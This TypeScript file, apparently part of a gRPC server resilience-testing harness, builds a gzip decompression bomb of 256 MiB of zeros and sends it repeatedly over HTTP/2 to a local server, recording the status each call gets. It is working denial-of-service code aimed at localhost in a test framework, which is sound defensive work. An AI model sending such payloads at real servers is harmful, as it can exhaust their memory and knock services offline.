/** Compressed messages that are a thousand times as large as they look. The frames that carry them are sound: node:http2 writes them. */
import { once } from "node:events";
import { type ClientHttp2Session, connect } from "node:http2";
import { setTimeout } from "node:timers/promises";
import { createGzip } from "node:zlib";
import { methodPath } from "../wire/header-blocks.js";
import type { Attack, Attacker } from "./attacker.js";

const bombBytes = 256 * 1024 * 1024;
const pieceBytes = 1024 * 1024;
const callLimitMs = 10_000;

/** `inFlight` calls at a time, on one connection; after each a pause. */
export async function createGzipBomb(inFlight: number, pauseMs = 0): Promise<Attack> {
  const message = await createMessage();
  return async (attacker) => {
    const session = connect(`http://127.0.0.1:${attacker.port}`);
    session.on("error", () => {});
    await once(session, "connect");
    const callOn = async (): Promise<void> => {
      while (!attacker.isStopped && !session.closed) {
        attacker.countStatus(await call(session, message));
        attacker.units++;
        await setTimeout(pauseMs);
      }
    };
    await Promise.all([...Array.from({ length: inFlight }, callOn), closeAtEnd(attacker, session)]);
  };
}

async function closeAtEnd(attacker: Attacker, session: ClientHttp2Session): Promise<void> {
  await attacker.hold();
  session.destroy();
}

/** A message prefix with the compressed flag, and zeros behind it. */
export async function createMessage(): Promise<Buffer> {
  const gzip = createGzip({ level: 9 });
  const parts: Buffer[] = [];
  gzip.on("data", (part: Buffer) => parts.push(part));
  const zeros = Buffer.alloc(pieceBytes);
  for (let bytes = 0; bytes < bombBytes; bytes += pieceBytes) {
    if (!gzip.write(zeros)) await once(gzip, "drain");
  }
  gzip.end();
  await once(gzip, "end");
  const body = Buffer.concat(parts);
  const prefix = Buffer.alloc(5);
  prefix[0] = 1;
  prefix.writeUInt32BE(body.length, 1);
  return Buffer.concat([prefix, body]);
}

/** Resolves to the call's status code, or to how it ended without one. */
async function call(session: ClientHttp2Session, message: Buffer): Promise<string> {
  const stream = session.request({
    ":method": "POST",
    ":path": methodPath.unary,
    te: "trailers",
    "content-type": "application/grpc",
    "grpc-encoding": "gzip",
  });
  let status: unknown;
  stream.on("response", (headers) => {
    status ??= headers["grpc-status"];
  });
  stream.on("trailers", (trailers) => {
    status ??= trailers["grpc-status"];
  });
  stream.on("error", () => {});
  stream.resume();
  stream.end(message);
  const closed = once(stream, "close");
  await Promise.race([closed, setTimeout(callLimitMs, undefined, { ref: false })]);
  if (!stream.closed) stream.destroy();
  return status === undefined ? `no status (RST_STREAM ${stream.rstCode})` : String(status);
}
